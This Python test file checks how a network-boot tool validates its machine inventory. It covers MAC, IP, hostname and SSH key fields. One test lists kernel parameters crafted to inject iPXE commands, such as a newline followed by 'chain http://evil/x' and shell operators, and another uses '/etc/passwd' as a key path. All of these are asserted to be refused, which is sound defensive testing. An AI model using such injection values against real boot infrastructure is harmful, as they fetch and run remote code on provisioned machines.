"""inventory.load: machines.toml read, resolved, and every bad value refused in one line."""

from __future__ import annotations

import json
import subprocess
import textwrap
from pathlib import Path

import pytest

from plasmaboot.errors import UserError
from plasmaboot.inventory.load import Inventory, load_inventory, normalize_mac
from plasmaboot.inventory.model import inventory_json_schema
from plasmaboot.profiles.store import ProfileStore

GOOD = """\
[defaults]
profile = "control-plane"
labels = { site = "lab" }
kernel_params = ["loglevel=7"]

[machines.cp1]
mac = "52:54:00:12:34:01"
ipv4 = "10.20.0.11/24"
ssh_keys = ["keys/ops.pub"]

[machines.w1]
mac = ["52:54:00:12:34:02", "52-54-00-AB-cd-03"]
profile = "worker"
variant = "debug"
hostname = "worker-1.lab"
kernel_params = ["plasmaboot.overlay_size=75%"]
labels = { rack = "r2" }
"""


@pytest.fixture
def directory(tmp_path: Path) -> Path:
    (tmp_path / "keys").mkdir()
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", tmp_path / "keys" / "ops"],
        check=True,
    )
    return tmp_path


def load(directory: Path, text: str) -> Inventory:
    path = directory / "machines.toml"
    path.write_text(textwrap.dedent(text))
    return load_inventory(path, ProfileStore())


def test_a_good_inventory_resolves_defaults(directory: Path) -> None:
    inventory = load(directory, GOOD)
    cp1 = inventory.machines["cp1"]
    assert cp1.profile == "control-plane" and cp1.label == "control-plane"
    assert cp1.hostname == "cp1" and cp1.ipv4 == "10.20.0.11/24" and cp1.address == "10.20.0.11"
    assert cp1.kernel_params == ("loglevel=7",)
    assert cp1.ssh_keys == (str((directory / "keys/ops.pub").resolve()),)
    assert cp1.labels == {"site": "lab"}
    w1 = inventory.machines["w1"]
    assert w1.label == "worker-debug" and w1.hostname == "worker-1.lab"
    assert w1.macs == ("52:54:00:12:34:02", "52:54:00:ab:cd:03")
    assert w1.kernel_params == ("loglevel=7", "plasmaboot.overlay_size=75%")
    assert w1.labels == {"site": "lab", "rack": "r2"}
    assert inventory.find("52-54-00-ab-CD-03") is w1
    assert inventory.find("52:54:00:00:00:99") is None
    assert inventory.find("not a mac") is None


@pytest.mark.parametrize(
    ("text", "fragments"),
    [
        (
            '[machines.a]\nmac = "zz:54:00:12:34:01"\nprofile = "worker"\n',
            ["machines.a.mac", "expected a MAC address like", '"zz:54:00:12:34:01"'],
        ),
        (
            '[machines.a]\nmac = "01:00:5e:00:00:01"\nprofile = "worker"\n',
            ["machines.a.mac", "unicast"],
        ),
        ('[machines.a]\nmac = "ff:ff:ff:ff:ff:ff"\nprofile = "worker"\n', ["unicast"]),
        ('[machines.a]\nmac = []\nprofile = "worker"\n', ["machines.a.mac", "at least one"]),
        ('[machines.a]\nmac = "52:54:00:12:34:01"\n', ["machines.a.profile", "expected a profile"]),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "wroker"\n',
            ['unknown profile "wroker"', "did you mean 'worker'"],
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\nvariant = "dbg"\n',
            ["machines.a.variant", 'unknown variant "dbg"'],
        ),
        ('[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "../x"\n', ["unknown profile"]),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\nipv4 = "10.0.0.1"\n',
            ["machines.a.ipv4", "with its prefix"],
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\nipv4 = "10.0.0.0/24"\n',
            ["network address"],
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\nipv4 = "10.0.0.255/24"\n',
            ["broadcast address"],
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\nipv4 = "127.0.0.5/8"\n',
            ["expected a host address"],
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\nipv4 = "300.1.1.1/24"\n',
            ["machines.a.ipv4", "expected an IPv4 address"],
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\nhostname = "Bad_Host"\n',
            ["machines.a.hostname", "lowercase host name"],
        ),
        ('[machines."a b"]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\n', ["machine name"]),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\nmacs = "x"\n',
            ["machines.a.macs: unknown key", "did you mean 'mac'"],
        ),
        ('[defaults]\nmac = "52:54:00:12:34:01"\n', ["defaults.mac"]),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\n'
            'labels = { Rack = "1" }\n',
            ["labels", "label name"],
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\n'
            'ssh_keys = ["/etc/passwd"]\n',
            ["ssh_keys[0]", "relative to the inventory file"],
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\n'
            'ssh_keys = ["keys/ops"]\n',
            ["ssh_keys[0]", "private key"],
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\n'
            'ssh_keys = ["nope.pub"]\n',
            ["ssh_keys[0]", "cannot read"],
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\nipv4 = 5\n',
            ["machines.a.ipv4", "expected a string"],
        ),
        ("[machines.a\n", ["line 1", "invalid TOML"]),
    ],
)
def test_bad_values_are_refused_in_one_located_line(
    directory: Path, text: str, fragments: list[str]
) -> None:
    with pytest.raises(UserError) as caught:
        load(directory, text)
    message = caught.value.message
    assert message.startswith(f"{directory / 'machines.toml'}: "), message
    assert "\n" not in message
    for fragment in fragments:
        assert fragment in message, message


@pytest.mark.parametrize(
    "param",
    [
        "a\nchain http://evil/x",  # a newline: a second iPXE command
        "||",  # chains a command after the kernel line
        "&&",
        "x;shell",
        "${net0/mac}",  # iPXE variable expansion
        'quiet"',
        "a b",
        "initrd=evil",  # plasmaboot writes it
        "systemd.hostname=other",
        "ip=1.2.3.4",
        "",
        "x" * 2000,
    ],
)
def test_kernel_params_that_could_inject_are_refused(directory: Path, param: str) -> None:
    text = (
        '[machines.a]\nmac = "52:54:00:12:34:01"\nprofile = "worker"\n'
        f"kernel_params = [{json.dumps(param)}]\n"
    )
    path = directory / "machines.toml"
    path.write_text(text)
    with pytest.raises(UserError, match=r"kernel_params\[0\]"):
        load_inventory(path, ProfileStore())


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\n[machines.b]\nmac = "52-54-00-12-34-01"\n',
            'machines.b.mac: "52:54:00:12:34:01" is already machines.a\'s',
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nhostname = "x"\n'
            '[machines.b]\nmac = "52:54:00:12:34:02"\nhostname = "x"\n',
            "machines.b.hostname",
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\nipv4 = "10.0.0.5/24"\n'
            '[machines.b]\nmac = "52:54:00:12:34:02"\nipv4 = "10.0.0.5/16"\n',
            "machines.b.ipv4",
        ),
        (
            '[machines.a]\nmac = "52:54:00:12:34:01"\n[machines.b]\nmac = "52:54:00:12:34:02"\n'
            'hostname = "a"\n',
            "machines.b.hostname",
        ),
    ],
)
def test_duplicates_across_machines_are_refused(directory: Path, text: str, fragment: str) -> None:
    with pytest.raises(UserError) as caught:
        load(directory, '[defaults]\nprofile = "worker"\n' + text)
    assert fragment in caught.value.message, caught.value.message


def test_a_huge_inventory_is_refused_before_parsing(directory: Path) -> None:
    path = directory / "machines.toml"
    with path.open("w") as handle:
        handle.write("# padding\n" * (2 << 20))
    with pytest.raises(UserError, match="larger than 16 MiB"):
        load_inventory(path, ProfileStore())


def test_a_missing_inventory_names_the_option(tmp_path: Path) -> None:
    with pytest.raises(UserError, match=r"--inventory .*cannot read"):
        load_inventory(tmp_path / "nope.toml", ProfileStore())


def test_mac_spellings() -> None:
    assert normalize_mac("52-54-00-AB-CD-EF") == "52:54:00:ab:cd:ef"
    assert normalize_mac(" 52:54:00:ab:cd:ef ") == "52:54:00:ab:cd:ef"
    for bad in ("52:54:00:ab:cd", "52:54:00:ab:cd:ef:01", "5254.00ab.cdef", "gg:54:00:ab:cd:ef"):
        assert normalize_mac(bad) is None


def test_the_schema_describes_machines() -> None:
    schema = inventory_json_schema()
    assert schema["title"] == "plasmaboot machine inventory"
    machine = schema["$defs"]["MachineTable"]  # type: ignore[index]
    assert {"mac", "ipv4", "hostname", "profile", "ssh_keys", "labels"} <= set(
        machine["properties"]
    )
    assert machine["required"] == ["mac"]
